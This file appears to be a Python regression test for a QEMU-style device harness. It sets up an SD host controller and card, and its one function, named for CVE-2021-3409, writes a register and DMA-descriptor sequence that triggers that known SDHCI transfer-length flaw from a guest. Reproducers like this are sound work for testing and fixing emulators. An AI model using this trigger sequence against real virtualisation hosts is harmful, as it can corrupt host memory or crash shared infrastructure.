# SPDX-License-Identifier: GPL-2.0
"""An SD host controller, with a card"""

import struct

DEVICES = ("sdhci-pci", "sd-card,drive=disk,bus=sd-bus")
BACKENDS = ("-blockdev driver=null-co,node-name=disk,size=1048576,read-zeroes=on",)
# Capabilities
PROBE = 0, 0x40

ADDRESS, BLOCK, MODE, HOST, CLOCK, DESCRIPTORS = 0x00, 0x04, 0x0c, 0x28, 0x2c, 0x58
CLOCK_ON = 5
USE_DESCRIPTORS, USE_ADDRESS = 0x10, 0x00
DMA, COUNTED, MULTIPLE = 0x01, 0x02, 0x20
WITH_DATA = 0x20 << 16
TRANSFER_AND_END = 0x23
PART, SMALL, COUNT = 8, 2, 16


def cve_2021_3409(guest):
    """A transfer ends within a block; the next one has blocks that are smaller than what
    has been transferred of that."""
    bar = guest.device.bars[0]
    data = guest.alloc(4096)
    bar.write(CLOCK, CLOCK_ON)
    bar.write(BLOCK, COUNT << 16 | 512)
    bar.write(HOST, USE_DESCRIPTORS, 1)
    bar.write(DESCRIPTORS, guest.memory(struct.pack("<HHI", TRANSFER_AND_END, PART, data)))
    bar.write(MODE, WITH_DATA | DMA)
    bar.write(BLOCK, SMALL, 2)
    bar.write(MODE, COUNTED | MULTIPLE, 2)
    bar.write(HOST, USE_ADDRESS, 1)
    bar.write(ADDRESS, data)
